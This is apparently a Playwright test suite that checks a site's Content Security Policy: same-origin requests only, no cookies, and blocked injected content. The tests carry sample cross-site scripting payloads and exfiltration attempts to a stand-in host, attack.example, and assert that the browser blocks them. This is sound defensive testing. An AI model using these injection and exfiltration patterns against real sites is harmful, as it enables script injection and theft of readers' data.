/**
 * Nothing but the site's own files is asked for, no cookie is set and nothing that the pages
 * do breaks their policy, whatever one opens; and what somebody else puts into a page is not run.
 */
import { expect, type Page, test } from '@playwright/test';
import { KINDS } from './kinds.ts';

/** What a browser says when a policy forbids something. */
interface Heard {
  requests: string[];
  complaints: string[];
}

/** Listens. The server sends the policy in the header too. */
async function listen(page: Page): Promise<Heard> {
  const heard: Heard = { requests: [], complaints: [] };
  page.on('request', (request) => heard.requests.push(request.url()));
  page.on('console', (message) => {
    if (message.type() === 'error') heard.complaints.push(message.text());
  });
  page.on('pageerror', (error) => heard.complaints.push(String(error)));
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (event) =>
      console.error(`${event.effectiveDirective} forbids ${event.blockedURI} ${event.sample}`),
    ),
  );
  return heard;
}

/** What opens a dialog, a card or a menu, where a page has it. */
const OPENERS = [
  '[data-goto]',
  '[data-cite-this]',
  '[data-settings]',
  '.pilcrow:not(.of-page)',
  '[role="doc-noteref"]',
];
const OPEN = 'dialog[open], :popover-open';

async function useEverything(page: Page): Promise<void> {
  const box = page.locator('input[type="search"]').first();
  await box.fill('駐韓美軍');
  const hits = page.locator(':is([data-drop], #results, [data-note-list]) li:visible');
  await expect(hits.first()).toBeVisible({ timeout: 20_000 });
  await page.keyboard.press('Escape');
  await box.blur();
  for (const opener of OPENERS) {
    const one = page.locator(opener).first();
    if ((await one.count()) === 0) continue;
    // Some are shown only where the pointer is, or lie under what is open.
    await one.dispatchEvent('click');
    await expect(page.locator(OPEN).first()).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(page.locator(OPEN)).toHaveCount(0);
  }
}

for (const [kind, address] of Object.entries(KINDS)) {
  test(`${kind}: own files only, no cookie, nothing against the policy`, async ({
    page,
    baseURL,
  }) => {
    const heard = await listen(page);
    // A mark opens a pop-up where no note stands beside it.
    await page.setViewportSize({ width: 1000, height: 800 });
    await page.goto(address);
    await page.dispatchEvent('body', 'pointermove');
    await useEverything(page);
    await page.waitForLoadState('networkidle');
    expect(heard.complaints).toEqual([]);
    const elsewhere = heard.requests.filter((url) => !url.startsWith(baseURL ?? ''));
    expect(elsewhere).toEqual([]);
    expect(heard.requests.length).toBeGreaterThan(5);
    expect(await page.context().cookies()).toEqual([]);
  });
}

test('a search on its page stays within the policy', async ({ page }) => {
  const heard = await listen(page);
  await page.goto('/search/?q=%E5%8C%97%E9%9F%93&in=notes&type=wire');
  await expect(page.locator('#results li').first()).toBeVisible();
  expect(heard.complaints).toEqual([]);
});

test('what a reader has set is applied within the policy', async ({ page }) => {
  const heard = await listen(page);
  await page.addInitScript(() => {
    localStorage['zhangju.settings'] = JSON.stringify({ setting: 'vertical' });
  });
  await page.goto('/sections/1/');
  await expect(page.locator('html')).toHaveAttribute('data-setting', 'vertical');
  await expect(page.locator('head link[href*="/settings."]')).toBeAttached();
  expect(heard.complaints).toEqual([]);
});

test.describe('what somebody else puts into a page', () => {
  /** Each is tried by the page itself: what a debugger runs is above every policy. */
  const ATTACKS: Record<string, string> = {
    'an inline script': `
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.body.append(script);`,
    'a handler': `
      document.body.insertAdjacentHTML(
        'beforeend', '<img src="/none.png" onerror="window.attacked = true">');`,
    'a link that is a script': `
      document.body.insertAdjacentHTML(
        'beforeend', '<a id="attack" href="javascript:void(window.attacked = true)">x</a>');
      document.querySelector('#attack').click();`,
    'a script from elsewhere': `
      const script = document.createElement('script');
      script.src = 'https://attack.example/x.js';
      document.body.append(script);`,
    'a script in a data address': `
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.attacked=true';
      document.body.append(script);`,
    'text run as a program': `setTimeout('window.attacked = true');`,
    'a frame': `
      const frame = document.createElement('iframe');
      frame.src = 'https://attack.example/';
      document.body.append(frame);`,
    'a plug-in': `
      const plugin = document.createElement('object');
      plugin.data = 'https://attack.example/x.svg';
      document.body.append(plugin);`,
  };

  /** Requests that reached another host: what a policy stops, never gets there. */
  let reached: string[];

  test.beforeEach(async ({ page }) => {
    reached = [];
    // The page's own policy alone: that of the header would do what it leaves undone.
    await page.route('**/sections/4/', async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': _, ...headers } = response.headers();
      return route.fulfill({ response, headers });
    });
    await page.route('https://attack.example/**', (route) => {
      reached.push(route.request().url());
      return route.fulfill({
        body: 'window.attacked = true',
        headers: { 'access-control-allow-origin': '*' },
      });
    });
    await page.addInitScript(() => {
      const forbidden: string[] = [];
      Object.assign(window, { forbidden });
      document.addEventListener('securitypolicyviolation', (event) =>
        forbidden.push(event.effectiveDirective),
      );
    });
  });

  const forbidden = (page: Page) =>
    page.evaluate(() => (window as unknown as { forbidden: string[] }).forbidden);

  for (const [attack, run] of Object.entries(ATTACKS)) {
    test(`${attack} is not run`, async ({ page }) => {
      await page.addInitScript(`addEventListener('attack', () => {${run}});`);
      await page.goto('/sections/4/');
      await page.evaluate(() => setTimeout(() => dispatchEvent(new Event('attack'))));
      await expect.poll(() => forbidden(page)).not.toEqual([]);
      expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
      expect(reached).toEqual([]);
    });
  }

  test('a style changes nothing', async ({ page }) => {
    await page.goto('/sections/4/');
    const color = () =>
      page.locator('article').evaluate((e) => getComputedStyle(e).backgroundColor);
    const before = await color();
    await page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<style>article { background: red }</style>');
      document.querySelector('article')?.setAttribute('style', 'background: red');
    });
    await expect.poll(() => forbidden(page)).toEqual(['style-src-elem', 'style-src-attr']);
    expect(await color()).toBe(before);
  });

  test('nothing of the reader is sent elsewhere', async ({ page }) => {
    await page.goto('/sections/4/');
    const failed = await page.evaluate(async () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="https://attack.example/x.png">');
      const form = document.createElement('form');
      form.action = 'https://attack.example/';
      document.body.append(form);
      form.requestSubmit();
      return fetch('https://attack.example/').then(
        () => false,
        () => true,
      );
    });
    expect(failed).toBe(true);
    await expect
      .poll(async () => (await forbidden(page)).sort())
      .toEqual(['connect-src', 'form-action', 'img-src']);
    expect(reached).toEqual([]);
  });
});
